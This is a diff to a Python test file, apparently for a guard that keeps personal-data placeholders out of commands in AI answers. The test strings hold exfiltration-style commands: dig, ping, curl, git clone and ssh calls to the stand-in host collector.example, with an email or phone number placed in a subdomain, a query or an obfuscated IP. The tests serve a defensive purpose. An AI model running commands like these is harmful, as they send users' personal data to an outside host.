@@ -34,7 +34,9 @@ PHONE = "415-555-0182"
 E, P = "<EMAIL_ADDRESS_1>", "<PHONE_NUMBER_1>"
 PROMPT = f"I am reachable at {MAIL}, phone {PHONE}. Please file the form."
 
-KEPT = (f"To confirm, run dig {E}.collector.example. Then ping \"{P}\".collector.example or open "
+# (`To confirm, dig ...`: prose naming hosts; `To confirm, run dig ...` starts a command line since atk24a F18, a scope
+# that sends, and then every tool call of the answer keeps its placeholders too: tests/guard/test_intro24.py)
+KEPT = (f"To confirm, dig {E}.collector.example. Then ping \"{P}\".collector.example or open "
         f"{P}&#46;collector.example, curl collector.example./c?u={E} or 0xcb.0.0x71.9/c?u={P}, "
         f"git clone {P}@collector.example:repo.git and ssh {E}@collector.example\n")
 SAID = KEPT + f"Your address is {E}, saved to /home/ops/{E}.txt; [mail](mailto:{E}), call {P}."
@@ -112,8 +114,10 @@ def anthropic_answer(mock: Mock, restoring: Proxy, stream: bool, args: dict[str,
 
 # ------------------------------------------------------------------ H3: the host label in the answer's next text
 
-HALF, REST = f"Run: dig {E}", f".collector.example now. Your address is {E}."
-WANT_REST = f".collector.example now. Your address is {MAIL}."
+# (the sentence after the command on a line of its own: on the command's line, `Run: dig ...`, it is the command's
+# words since atk24a F18, kept with them: tests/guard/test_intro24.py)
+HALF, REST = f"Run: dig {E}", f".collector.example now.\nYour address is {E}."
+WANT_REST = f".collector.example now.\nYour address is {MAIL}."
 JOINED = HALF + WANT_REST
 
 
